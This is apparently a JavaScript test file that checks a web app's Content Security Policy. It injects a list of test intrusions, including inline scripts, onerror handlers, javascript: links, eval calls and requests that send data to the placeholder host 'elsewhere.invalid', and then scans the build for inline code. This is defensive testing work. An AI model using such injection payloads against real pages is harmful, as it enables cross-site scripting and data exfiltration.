// The page's policy: it is strict, nothing of the app breaks it, and it refuses what it should.
import { readFile, readdir } from "node:fs/promises";
import { join } from "node:path";
import { atChair, done, leave, longer } from "../../flow.mjs";
import { DIST, open, start, workerReady } from "../../harness.mjs";
import { addresses, filled, screenAt } from "../../hosted.mjs";
import { watched } from "./watched.mjs";

// The main flow, every address, a file saved and a picture shared, with the worker in charge.
async function wholeFlow(full) {
  const app = await start();
  try {
    const { page, seen, broken, strays } = await watched(app);
    await atChair(app, page);
    await done(page);
    await longer(page);
    await leave(page);
    await workerReady(page);
    await filled(app, page);
    const all = (await addresses(page)).filter((_, i) => full || i % 4 === 0);
    for (const path of all) {
      await screenAt(page, `${app.url}/${path}`);
      if (path.includes("/see/")) await page.getByRole("button", { name: /PNG|image|drawing/i }).first().click().catch(() => {});
    }
    await open(app, page, "/keep");
    await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Save everything as a file" }).click()]);
    const figure = `${broken.length} broken, ${strays().length} of ${seen.requests.length} requests elsewhere, ${seen.errors.length} errors`;
    return {
      tries: all.length + 1,
      figure: [figure, ...new Set(broken), ...new Set(strays()), ...new Set(seen.errors)].join("; ").slice(0, 600),
      well: !broken.length && !strays().length && !seen.errors.length,
    };
  } finally {
    await app.close();
  }
}

// What somebody might get into the page, and what must not come of it. Each resolves to what happened.
const INTRUDERS = {
  "an inline script": () => { const it = document.createElement("script"); it.append("globalThis.got = 1"); document.body.append(it); },
  "a script from elsewhere": () => { const it = document.createElement("script"); it.setAttribute("src", "https://elsewhere.invalid/x.js"); document.body.append(it); },
  "a handler in markup": () => document.body.insertAdjacentHTML("beforeend", '<img src="x" onerror="globalThis.got = 1">'),
  "a script in markup": () => document.body.insertAdjacentHTML("beforeend", "<svg><script>globalThis.got = 1</script></svg>"),
  "a link that is a script": () => { const it = document.createElement("a"); it.setAttribute("href", "javascript:globalThis.got = 1"); document.body.append(it); it.click(); },
  "text that is evaluated": () => (0, globalThis.ev)("globalThis.got = 1"),
  "a function of text": () => globalThis.Fu("globalThis.got = 1")(),
  "a picture from elsewhere": () => { const it = new Image(); it.src = "https://elsewhere.invalid/x.png"; it.onload = () => { globalThis.got = 1; }; document.body.append(it); },
  "a picture in the text itself": () => { const it = new Image(); it.src = "data:image/gif;base64,R0lGODlhAQABAAAAACw="; it.onload = () => { globalThis.got = 1; }; document.body.append(it); },
  "something sent elsewhere": () => fetch("https://elsewhere.invalid/", { method: "POST", body: "client" }).then(() => { globalThis.got = 1; }),
  "a beacon": () => navigator.sendBeacon("https://elsewhere.invalid/", "client"),
  "a socket": () => new WebSocket("wss://elsewhere.invalid/"),
  "a frame": () => { const it = document.createElement("iframe"); it.src = "https://elsewhere.invalid/"; document.body.append(it); },
  "a form sent away": () => { const it = document.createElement("form"); it.action = "https://elsewhere.invalid/"; document.body.append(it); it.submit(); },
  "another base": () => { document.querySelector("base").remove(); const it = document.createElement("base"); it.href = "https://elsewhere.invalid/"; document.head.append(it); if (document.baseURI.includes("elsewhere")) globalThis.got = 1; },
  "a style in the page": () => { const it = document.createElement("style"); it.append("body { display: none }"); document.head.append(it); if (getComputedStyle(document.body).display === "none") globalThis.got = 1; },
  "another worker": () => navigator.serviceWorker.register("https://elsewhere.invalid/sw.js").then(() => { globalThis.got = 1; }),
  "a thread of its own": () => new Worker("data:text/javascript,0"),
};

async function intruders(full) {
  const app = await start();
  const all = Object.entries(INTRUDERS).filter((_, i) => full || i % 3 === 0);
  const slipped = [];
  try {
    for (const [name, intrude] of all) {
      const { context, page, broken } = await watched(app);
      // Under other names: a driver's own use of these is not what is tried here.
      await page.addInitScript(() => { globalThis.ev = globalThis.eval; globalThis.Fu = globalThis.Function; });
      await open(app, page);
      const gone = [];
      await context.route(/elsewhere\.invalid/, (route) => { gone.push(route.request().url()); return route.abort(); });
      // In a timer: what a driver evaluates may itself be exempt.
      await page.evaluate(`setTimeout(() => { try { Promise.resolve((${intrude})()).catch(() => {}); } catch {} }, 0); 0`);
      await page.waitForTimeout(250);
      const got = await page.evaluate(() => globalThis.got === 1);
      if (got || gone.length || !page.url().startsWith(app.url)) slipped.push(`${name}${broken.length ? "" : " (unnoticed)"}`);
      await context.close();
    }
    return { tries: all.length, figure: slipped.length ? `let in: ${slipped.join("; ")}` : `${all.length} of ${all.length} refused`, well: !slipped.length };
  } finally {
    await app.close();
  }
}

// The build itself: no script or style in a page, no address of anybody else's that a browser would load.
async function nothingInline() {
  const all = (await readdir(DIST, { recursive: true })).filter((name) => /\.(?:html|css|js|svg|webmanifest)$/.test(name));
  const faults = [];
  for (const name of all) {
    const text = await readFile(join(DIST, name), "utf8");
    const fault = (what, pattern) => { if (pattern.test(text)) faults.push(`${name}: ${what}`); };
    if (name.endsWith(".html")) {
      fault("a script in the page", /<script(?![^>]*\ssrc=)[^>]*>/);
      fault("a style in the page", /<style|\sstyle=/);
      fault("a handler in the page", /<[^>]*\son[a-z]+=/);
      fault("no policy", /^(?![\s\S]*Content-Security-Policy)/);
      fault("an address from the host's top", /(?:src|href)="\//);
      fault("unsafe-inline or unsafe-eval", /'unsafe-(?:inline|eval)'/);
    }
    if (name.endsWith(".svg")) fault("a script in a picture", /<script|\son[a-z]+=/i);
    if (name.endsWith(".css")) fault("something from elsewhere", /url\(["']?(?:https?:)?\/\/|@import/);
    if (name.endsWith(".js") || name.endsWith(".webmanifest")) fault("something from elsewhere", /(?:import|fetch|src|href)\s*[(=:]?\s*["'`]https?:\/\//);
  }
  return { tries: all.length, figure: faults.length ? faults.join("; ") : `${all.length} files`, well: !faults.length };
}

export const policy = [
  { name: "the whole flow and every address under the policy, network watched", budget: "0 broken, 0 requests elsewhere", run: wholeFlow },
  { name: "what gets into the page is refused: scripts, pictures, frames, sending", budget: "all refused", quick: true, run: intruders },
  { name: "nothing inline and nobody else's address in the build", budget: "none", quick: true, run: nothingInline },
];
